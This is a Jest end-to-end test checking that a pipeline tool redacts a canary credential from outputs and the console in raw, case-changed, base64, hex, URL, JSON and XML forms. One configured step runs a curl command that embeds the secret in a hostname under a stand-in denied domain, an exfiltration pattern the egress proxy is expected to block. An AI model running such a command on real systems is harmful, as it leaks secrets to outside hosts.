// Issue 24 item 1's acceptance through the product: a canary passed as a credential variable
// (command_line_docker_credentials.env_vars) is printed as-is, lowercased, in base64 at each of the
// three alignments, in hex and URL-encoded, and requested as `<canary>.denied.test` through the
// egress proxy (which lowercases host names). None of those forms may appear anywhere in the output
// directory (contents and file names) or on the console.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { chown, mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { join, relative } from 'node:path'
import { listRegularFiles } from '../../../src/report/files.js'
import type { RunResults } from '../../../src/report/types.js'
import { runPipeline } from '../../../src/run/pipeline.js'
import { ensureRuntimeImage, IMAGE_TIMEOUT_MS, tempDir } from '../docker/helpers.js'

// Mixed case, so that lowercasing makes a different string; a valid DNS label.
const CANARY = `Mx7Qk${Date.now().toString(36)}ZpWv9Tn`
// A second one with characters that URL-, JSON- and XML-escaping change.
const SPECIAL = `Sq+9/&<x>"K'${Date.now().toString(36)} z`

const PRINT = `
import os, base64, binascii, json, urllib.parse
from xml.sax.saxutils import escape
c, s = os.environ["E2E_CANARY"], os.environ["E2E_SPECIAL"]
print("raw", c)
print("lower", c.lower())
for k in range(3):
    print("b64", k, base64.b64encode(b"x" * k + c.encode() + b"yz").decode())
print("hex", binascii.hexlify(c.encode()).decode(), binascii.hexlify(c.encode()).decode().upper())
print("url", urllib.parse.quote(c, safe=""), urllib.parse.quote(s, safe=""), urllib.parse.quote_plus(s))
print("json", json.dumps(s), json.dumps({"k": s}))
print("xml", escape(s, {'"': "&quot;", "'": "&apos;"}))
`

let dir: string
let results: RunResults
const console: string[] = []

beforeAll(async () => {
  await ensureRuntimeImage()
  dir = await tempDir('redaction')
  await mkdir(join(dir, 'ws'), { recursive: true })
  await writeFile(join(dir, 'ws', 'print.py'), PRINT)
  // The checkout is the agent's (1000), as a runner's is its user's: a root-owned one is not
  // writable by the container user (it follows the owner, never root).
  if (process.geteuid?.() === 0) await chown(join(dir, 'ws'), 1000, 1000)
  const file = join(dir, 'config.yaml')
  await writeFile(
    file,
    `
agents:
  - id: leaky
    backend:
      cwd: ${dir}/ws
      command_line_execution_mode: docker
      command_line_egress:
        allowed_domains: [allowed.test]
      command_line_docker_credentials:
        env_vars: [E2E_CANARY, E2E_SPECIAL]
    commands:
      - name: print the forms
        run: python3 print.py
      - name: ask the proxy for the canary's name
        run: curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' "http://$E2E_CANARY.denied.test/"
      - name: a JUnit report naming the canary
        run: printf '<testsuite name="%s"><testcase name="%s"/></testsuite>' "$E2E_CANARY" "$(echo "$E2E_CANARY" | tr A-Z a-z)" > junit.xml
        junit: junit.xml
`
  )
  process.env.E2E_CANARY = CANARY
  process.env.E2E_SPECIAL = SPECIAL
  const outcome = await runPipeline({
    configPath: file,
    outDir: join(dir, 'out'),
    workingDirectory: dir,
    log: (l) => console.push(l),
    onStep: (a, s) => console.push(`[${a.id}] ${s.name} ${s.stdout} ${s.stderr}`)
  })
  results = JSON.parse(await readFile(outcome.reports.resultsFile, 'utf8')) as RunResults
}, IMAGE_TIMEOUT_MS)

afterAll(async () => {
  delete process.env.E2E_CANARY
  delete process.env.E2E_SPECIAL
  if (dir) await rm(dir, { recursive: true, force: true })
})

/** What a reader could find the canary by: each form, compared without regard to case. */
function forms(): string[] {
  const c = Buffer.from(CANARY)
  const out = [CANARY, c.toString('hex'), encodeURIComponent(SPECIAL), SPECIAL]
  out.push(JSON.stringify(SPECIAL).slice(1, -1))
  out.push(SPECIAL.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'))
  for (let k = 0; k < 3; k++) {
    const b64 = Buffer.concat([Buffer.from('x'.repeat(k)), c, Buffer.from('yz')]).toString('base64')
    // The characters that encode the canary's bytes alone (neighbours cut off both ends).
    const first = Math.ceil((k * 8) / 6)
    const last = Math.floor(((k + c.length) * 8) / 6)
    out.push(b64.slice(first, last))
  }
  return out
}

describe('secrets in other forms (issue 24 item 1)', () => {
  it('every step ran and printed the forms (so a leak would have been there to find)', () => {
    const a = results.agents[0]
    expect([a.error, ...a.commands.map((s) => s.status)]).toEqual([
      undefined,
      'passed',
      'passed',
      'passed'
    ])
    expect(a.commands[0].stdout.match(/\*\*\*/g)?.length).toBeGreaterThanOrEqual(12)
    expect(a.commands[1].stdout).toBe('403\n')
    const denied = JSON.stringify(a.egress)
    expect(denied).toContain('***.denied.test')
  })

  it('no form is in any file or file name of the output directory', async () => {
    const found: string[] = []
    for (const f of await listRegularFiles(join(dir, 'out'))) {
      const text = `${relative(dir, f)}\n${(await readFile(f)).toString('latin1')}`.toLowerCase()
      for (const form of forms())
        if (text.includes(form.toLowerCase())) found.push(`${relative(dir, f)}: ${form}`)
    }
    expect(found).toEqual([])
  })

  it('no form is on the console', () => {
    const text = console.join('\n').toLowerCase()
    expect(forms().filter((f) => text.includes(f.toLowerCase()))).toEqual([])
    expect(text).toContain('***')
  })
})
